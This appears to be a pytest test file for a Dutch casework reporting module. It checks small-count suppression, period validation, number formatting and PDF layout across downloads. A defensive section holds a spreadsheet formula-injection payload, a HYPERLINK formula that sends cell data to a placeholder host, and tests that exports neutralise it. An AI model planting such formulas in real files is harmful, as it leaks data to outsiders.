"""What a reader sees in the page and in every download: the same figures, the same way, nothing
a suppressed count could be worked out from, and no periods that have not happened yet."""

import base64
import csv
import io
import json
import re
import zlib
from datetime import date

import pytest
from openpyxl import load_workbook

from naast.accounts.roles import Role
from naast.casework.models import Signal, SurveyResponse
from naast.registry.choices import Channel, Outcome, Status, Urgency
from naast.reports import outputs
from naast.reports.charts import bar_chart
from naast.reports.monitor import build_report
from naast.reports.periods import PeriodError, parse_period
from naast.reports.queries import Scope

from .factories import at, funding

pytestmark = pytest.mark.django_db
URL = "/staff/rapportages/"
SECRET_TEXTS = ("Wachtlijst schuldhulp veel te lang", "Formulier alleen digitaal", "Geen tolk beschikbaar")


def pdf_text(body: bytes) -> str:
    """The text drawn on the pages of a reportlab PDF (no PDF library is installed): every
    content stream decoded (ASCII85, Flate) and the strings of its text operators joined."""
    texts = []
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", body, re.S):
        data = stream.strip()
        if data.endswith(b"~>"):
            data = base64.a85decode(data[:-2], adobe=False)
        try:
            data = zlib.decompress(data)
        except zlib.error:
            continue
        for line in re.findall(rb"\((.*?)\)\s*Tj", data, re.S):
            raw = re.sub(rb"\\([0-7]{3})", lambda m: bytes([int(m[1], 8)]), line)
            raw = raw.replace(b"\\(", b"(").replace(b"\\)", b")").replace(b"\\\\", b"\\")
            texts.append(raw.decode("cp1252"))
    return " ".join(texts)


@pytest.fixture
def westerveld(f):
    muni, org = f.municipality("GM1701", "Westerveld"), f.organisation("MEE Test")
    requests = []
    for i in range(12):
        requests.append(f.help_request(
            client=f.client(f"C{i}"), municipality=muni, org=org, received_at=at(f"2025-0{i % 9 + 1}-05 10:00"),
            channel=Channel.WEB if i < 2 else Channel.PHONE, urgency=Urgency.REGULAR, status=Status.CLOSED,
            closed_at=at(f"2025-0{i % 9 + 1}-20 10:00"), outcome=Outcome.ANSWERED, minutes_spent=90,
        ))
    return {"muni": muni, "org": org, "requests": requests}


# --- 1. the approved signal texts must not give away a count shown as "<5" ----------------------------
def test_a_funder_never_sees_how_many_signals_a_suppressed_count_hides(f, login, westerveld):
    for request, text in zip(westerveld["requests"], SECRET_TEXTS, strict=False):
        Signal.objects.create(help_request=request, theme="waiting_list", text=text, shareable=True,
                              status="approved", approved_text=text, recorded_at=at("2025-08-10 10:00"))
    client = login(f.user(Role.FUNDER, muni=westerveld["muni"]))
    query = {"kind": "signals", "period": "2025", "municipality": "GM1701"}
    page = client.get(URL, query).content.decode()
    assert 'data-key="signals">&lt;5<' in page
    assert not any(text in page for text in SECRET_TEXTS)
    assert "Niet getoond: het zijn er minder dan 5" in page
    assert "augustus 2025" in page  # the month of the trend, in Dutch
    downloads = {fmt: client.get(f"{URL}download/{fmt}/", query).content for fmt in ("json", "csv", "xlsx", "pdf")}
    assert not any(text in downloads["json"].decode() for text in SECRET_TEXTS)
    data = json.loads(downloads["json"])
    shareable = data["sections"][0]["tables"]["signals_shareable"]
    assert shareable["rows"] == [] and "minder dan 5" in shareable["note"]
    assert "signals_shareable" not in downloads["csv"].decode("utf-8-sig")
    workbook = load_workbook(io.BytesIO(downloads["xlsx"]))
    cells = [str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(text in cell for cell in cells for text in SECRET_TEXTS)
    assert any("minder dan 5" in cell for cell in cells)
    text = pdf_text(downloads["pdf"])
    assert not any(secret in text for secret in SECRET_TEXTS) and "minder dan 5" in text
    # a coordinator sees the exact figures and the texts
    coordinator = login(f.user(Role.COORDINATOR, org=westerveld["org"]))
    page = coordinator.get(URL, query).content.decode()
    assert all(text in page for text in SECRET_TEXTS)


def test_five_or_more_approved_texts_are_listed_for_a_funder(f, login, westerveld):
    for i, request in enumerate(westerveld["requests"][:6]):
        Signal.objects.create(help_request=request, theme="rules", text=f"Signaaltekst {i}", shareable=True,
                              status="approved", approved_text=f"Signaaltekst {i}", recorded_at=at("2025-03-10 10:00"))
    page = login(f.user(Role.FUNDER, muni=westerveld["muni"])).get(
        URL, {"kind": "signals", "period": "2025"}).content.decode()
    assert all(f"Signaaltekst {i}" in page for i in range(6))


# --- 2. periods that have not started yet; examples that agree --------------------------------------------
def test_a_future_period_is_refused_with_a_clear_message(f, login, westerveld):
    client = login(f.user(Role.AUDITOR))
    next_year = date.today().year + 1
    page = client.get(URL, {"period": str(next_year)}).content.decode()
    assert "Deze periode ligt in de toekomst." in page and "naast-figure" not in page
    assert client.get(f"{URL}download/pdf/", {"period": str(next_year)}).status_code == 400
    # a period that includes today is fine
    page = client.get(URL, {"period": str(date.today().year)}).content.decode()
    assert "Deze periode ligt in de toekomst." not in page and "naast-figure" in page


def test_parse_period_refuses_only_periods_that_start_after_today():
    today = date(2026, 11, 23)
    assert parse_period("2026", today=today).last_day == date(2026, 12, 31)
    assert parse_period("2026-Q4", today=today).first_day == date(2026, 10, 1)
    assert parse_period("2026-11-23..2027-01-31", today=today).kind == "custom"
    for text in ("2027", "2027-H1", "2026-11-24..2026-12-31"):
        with pytest.raises(PeriodError):
            parse_period(text, today=today)


def test_the_period_examples_agree_with_the_help_text(f, login, westerveld):
    year = date.today().year - 1
    page = login(f.user(Role.AUDITOR)).get(URL, {"period": "2024-Q5"}).content.decode()
    assert f"bijvoorbeeld {year}-H1 of {year}-Q3" in page
    assert f"Een jaar ({year}), halfjaar ({year}-H1)" in page
    assert "2018" not in page


# --- 3. downloads show what the page shows -----------------------------------------------------------------
def test_pdf_and_xlsx_show_money_percentages_and_durations_like_the_page(f, login, westerveld):
    funding(westerveld["muni"], westerveld["org"], 2025, 44000, target_unique_clients=10)
    client = login(f.user(Role.COORDINATOR, org=westerveld["org"]))
    query = {"period": "2025", "municipality": "GM1701"}
    page = client.get(URL, query).content.decode()
    assert "€ 44.000,00" in page and "€ 3.666,67" in page and "16,7 %" in page
    equivalent = page.split('data-key="hours_equivalent_minutes">', 1)[1].split("<", 1)[0]
    assert re.fullmatch(r"\d+ u \d\d min", equivalent)

    text = pdf_text(client.get(f"{URL}download/pdf/", query).content)
    assert "€ 44.000,00" in text and "€ 3.666,67" in text and "16,7 %" in text and equivalent in text
    assert "44000.00" not in text and "16.7" not in text
    assert "1 januari 2025" in text and "31 december 2025" in text

    workbook = load_workbook(io.BytesIO(client.get(f"{URL}download/xlsx/", query).content))
    summary = {row[0].value: row[1] for row in workbook.worksheets[0].iter_rows(min_row=4) if row[0].value}
    amount = summary["Subsidie (naar rato)"]
    assert amount.value == 44000 and "€" in amount.number_format and "0.00" in amount.number_format
    duration = next(cell for title, cell in summary.items() if title.startswith("Uren-equivalent"))
    assert "(uren:minuten)" in next(t for t in summary if t.startswith("Uren-equivalent"))
    assert duration.number_format == "[h]:mm"
    hours, minutes = map(int, equivalent.replace(" min", "").split(" u "))
    assert round(duration.value.total_seconds() / 60) == hours * 60 + minutes  # Excel reads it as a duration
    channel = workbook["by_channel"]
    share = next(row[2] for row in channel.iter_rows(min_row=3) if row[0].value == "Formulier op de website")
    assert share.number_format == "0.0%" and abs(share.value - 2 / 12) < 0.001


# --- 4. PDF cells wrap within their columns ----------------------------------------------------------------
def test_no_pdf_cell_holds_a_word_wider_than_its_column(f, westerveld):
    report = build_report("monitor", parse_period("2025"), Scope(municipality=westerveld["muni"]),
                          now=at("2026-01-01"))
    checked = 0
    for table in report.all_tables():
        widths = outputs.pdf_column_widths(table)
        assert sum(widths) <= outputs.PDF_WIDTH_CM * 28.35 + 1, table.key
        for r, row in enumerate(outputs.pdf_table_cells(table)):
            for text, width in zip(row, widths, strict=True):
                checked += 1
                room = width - 2 * outputs.PDF_PADDING
                assert outputs.pdf_word_width(text, bold=(r == 0)) <= room, f"{table.key}: {text!r} in {width:.0f} pt"
    assert checked > 100
    timeliness = next(t for t in report.all_tables() if t.key == "timeliness")
    label_width = outputs.pdf_column_widths(timeliness)[0]
    from reportlab.pdfbase.pdfmetrics import stringWidth

    assert stringWidth("Afspraak (alle urgenties)", "Helvetica", outputs.PDF_FONT_SIZE) <= label_width


def test_the_pdf_header_words_are_not_broken(f, login, westerveld):
    text = pdf_text(login(f.user(Role.AUDITOR)).get(f"{URL}download/pdf/", {"period": "2025"}).content)
    assert "percentiel" in text and "Afspraak gemaakt (alle urgenties)" in text


# --- 5. targets: distinct column names, the satisfaction mark filled in -------------------------------------
def test_targets_have_distinct_columns_and_the_satisfaction_mark_achieved(f, login, westerveld):
    funding(westerveld["muni"], westerveld["org"], 2025, 44000, target_unique_clients=10, target_satisfaction=7.5)
    for _i in range(6):
        SurveyResponse.objects.create(municipality=westerveld["muni"], organisation=westerveld["org"],
                                      answered_in=date(2025, 6, 1), mark=8, felt_understood=4, felt_seen=4,
                                      fitted_own_question=4)
    client = login(f.user(Role.COORDINATOR, org=westerveld["org"]))
    page = client.get(URL, {"period": "2025", "municipality": "GM1701"}).content.decode()
    table = page.split('id="table-targets"', 1)[1].split("</table>", 1)[0]
    headers = re.findall(r'<th scope="col">(.*?)</th>', table)
    assert headers[:4] == ["Doel", "Norm", "Behaald", "Gehaald?"] and len(set(headers)) == len(headers)
    row = re.search(r"<th scope=\"row\">Tevredenheidscijfer</th>(.*?)</tr>", table, re.S)[1]
    assert re.findall(r"<td>(.*?)</td>", row)[:3] == ["7,5", "8,0", "ja"]


def test_a_satisfaction_mark_from_few_answers_stays_hidden_in_the_targets(f, login, westerveld):
    funding(westerveld["muni"], westerveld["org"], 2025, 44000, target_satisfaction=7.5)
    for _i in range(3):
        SurveyResponse.objects.create(municipality=westerveld["muni"], organisation=westerveld["org"],
                                      answered_in=date(2025, 6, 1), mark=9, felt_understood=4, felt_seen=4,
                                      fitted_own_question=4)
    page = login(f.user(Role.FUNDER, muni=westerveld["muni"])).get(URL, {"period": "2025"}).content.decode()
    row = re.search(r"<th scope=\"row\">Tevredenheidscijfer</th>(.*?)</tr>", page, re.S)[1]
    assert re.findall(r"<td>(.*?)</td>", row)[1:3] == ["×", "×"]


# --- 6. notes only where they are true, in plain words ------------------------------------------------------
def test_no_internal_module_wording_reaches_the_reader(f, login, westerveld):
    page = login(f.user(Role.FUNDER, muni=westerveld["muni"])).get(URL, {"period": "2025"}).content.decode()
    assert "module" not in page.lower()
    assert "Verwijzingen, signalen en tevredenheid" not in page
    assert "De module is geïnstalleerd" not in page
    # every section has its figures now: none says it is still to come
    assert "Deze cijfers staan nog niet in deze rapportage." not in page
    section = page.split('id="section-another_supporter"', 1)[1].split("</section>", 1)[0]
    assert "Nieuwe ondersteuner toegewezen" in section


# --- 7. charts speak like the tables ------------------------------------------------------------------------
def test_chart_values_are_shown_like_the_table(f, westerveld):
    report = build_report("monitor", parse_period("2025"), Scope(municipality=westerveld["muni"]),
                          now=at("2026-01-01"))
    channels = next(t for t in report.all_tables() if t.key == "by_channel")
    channels.chart_column = "share"  # a percentage column, as the timeliness chart has
    svg = str(bar_chart(channels, "c"))
    assert "16,7 %" in svg and "83,3 %" in svg and "16.7" not in svg


# --- 8. dates in Dutch, and a word when there is nothing to count -----------------------------------------
def test_the_header_dates_are_dutch_and_an_empty_scope_says_so(f, login, westerveld):
    empty_org = f.organisation("Welzijn Leeg", kind="welfare")
    client = login(f.user(Role.COORDINATOR, org=westerveld["org"]))
    page = client.get(URL, {"period": "2025", "organisation": empty_org.name}).content.decode()
    assert "Van 1 januari 2025 tot en met 31 december 2025." in page
    assert "Geen hulpvragen in deze periode en selectie" in page
    full = client.get(URL, {"period": "2025"}).content.decode()
    assert "Geen hulpvragen in deze periode en selectie" not in full


# --- 3. words typed by users never run as a spreadsheet formula -------------------------------------------
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"Klik")'


def test_a_formula_in_a_signal_is_plain_text_in_the_xlsx_and_the_csv(f, login, westerveld):
    westerveld["org"].name = "@Zorg en Welzijn"
    westerveld["org"].save()
    texts = [FORMULA, "-3 plekken minder bij de dagbesteding", "Wachtlijst 1", "Wachtlijst 2", "Wachtlijst 3"]
    for request, text in zip(westerveld["requests"], texts, strict=False):
        Signal.objects.create(help_request=request, theme="waiting_list", text=text, shareable=True,
                              status="approved", approved_text=text, recorded_at=at("2025-08-10 10:00"))
    query = {"kind": "signals", "period": "2025", "municipality": "GM1701"}
    for reader in (f.user(Role.FUNDER, muni=westerveld["muni"]), f.user(Role.COORDINATOR, org=westerveld["org"])):
        client = login(reader)
        workbook = load_workbook(io.BytesIO(client.get(f"{URL}download/xlsx/", query).content))
        cells = {c.value: c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None}
        assert FORMULA not in cells and not any(c.data_type == "f" for c in cells.values())
        assert cells["'" + FORMULA].data_type == "s"
        assert cells["'-3 plekken minder bij de dagbesteding"].data_type == "s"
        assert cells["'@Zorg en Welzijn"].data_type == "s"
        counts = workbook["signals_by_theme"]
        assert counts["B3"].value == 5 and counts["B3"].data_type == "n"  # a count stays a number
        rows = list(csv.reader(io.StringIO(client.get(f"{URL}download/csv/", query).content.decode("utf-8-sig"))))
        values = [row[4] for row in rows if row[0] == "signals_shareable" and row[3] == "text"]
        assert "'" + FORMULA in values and FORMULA not in values
        labels = [row[2] for row in rows if row[0] == "signals_by_organisation"]
        assert labels == ["'@Zorg en Welzijn"]
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert outputs._cell(-12) == "-12" and outputs._cell(-0.5) == "-0.5"  # numbers are not text


def test_formulas_are_inert_in_the_monitor_xlsx_too(f, westerveld):
    """Names come from the administrator too (organisations, districts): the monitor's sheets hold them."""
    westerveld["org"].name = "=1+1"
    westerveld["org"].save()
    report = build_report("monitor", parse_period("2025"), Scope(organisation=westerveld["org"]),
                          now=at("2026-01-01 10:00"))
    workbook = load_workbook(io.BytesIO(outputs.to_xlsx(report)))
    values = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in values)
    assert any(c.value == "'=1+1" for c in values)
